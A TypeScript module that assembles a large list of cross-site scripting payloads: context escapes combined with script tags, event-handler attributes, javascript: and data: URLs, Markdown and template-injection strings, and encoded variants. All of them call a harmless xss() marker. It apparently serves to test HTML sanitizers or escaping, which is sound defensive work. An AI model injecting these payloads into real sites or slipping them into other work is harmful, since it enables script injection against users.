/** Escapes from the context of a text: an attribute, a raw text element, a script, a style, a comment. */
const waysOut = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  '</template>',
  '</noscript>',
]

/** Markup that runs once it is parsed. Each piece calls `xss()`, or can be found in the page. */
const acts = [
  '<script>xss()</script>',
  '<img src=x onerror=xss()>',
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<iframe srcdoc="<script>parent.xss()</script>">',
  '<iframe src=javascript:parent.xss()>',
  '<details open ontoggle=xss()>',
  '<input autofocus onfocus=xss()>',
  '<video><source onerror=xss()></video>',
  '<audio src=x onerror=xss()>',
  '<body onload=xss()>',
  '<a href=javascript:xss()>a</a>',
  '<object data=javascript:xss()></object>',
  '<embed src=javascript:xss()>',
  '<math><mi xlink:href=javascript:xss()>x</mi></math>',
  '<marquee onstart=xss()>x</marquee>',
  '<link rel=stylesheet href=x onerror=xss()>',
  '<base href=//xss.invalid/>',
  '<meta http-equiv=refresh content=0;url=javascript:xss()>',
]

/** Texts with a special meaning in Markdown, in links, in JSON in a script, or after unescaping once too often. */
const others = [
  '[a](javascript:xss())',
  '![a](javascript:xss())',
  '<javascript:xss()>',
  '[a]: javascript:xss()',
  'https://a.example/"onmouseover="xss()',
  "https://a.example/'onclick='xss()",
  'https://a.example/<script>xss()</script>',
  'javascript:xss()',
  'JaVaScRiPt:xss()',
  'java\tscript:xss()',
  'data:text/html,<script>xss()</script>',
  'vbscript:xss()',
  '`<img src=x onerror=xss()>`',
  '**<b onclick=xss()>b</b>**',
  '> <img src=x onerror=xss()>',
  '{{constructor.constructor("xss()")()}}',
  '${xss()}',
  '"};xss();//',
  "';xss();//",
  '\\";xss();//',
  '\\u003cscript\\u003exss()\\u003c/script\\u003e',
  '%3Cscript%3Exss()%3C/script%3E',
  '&lt;script&gt;xss()&lt;/script&gt;',
  '&#60;img src=x onerror=xss()&#62;',
  '<!--<script>xss()',
  ']]><script>xss()</script>',
  '\u2028xss()\u2029',
]

/** Texts that would run if a page treated them as markup. */
export const payloads: readonly string[] = [...waysOut.flatMap(out => acts.map(act => out + act)), ...others]

/** All of them, in as few texts of limited length as possible. */
export function packed(most: number): string[] {
  const texts: string[] = []
  let text = ''
  for (const payload of payloads.filter(({ length }) => length <= most)) {
    if (text && text.length + 1 + payload.length > most) {
      texts.push(text)
      text = ''
    }
    text = text ? `${text} ${payload}` : payload
  }
  return [...texts, text]
}
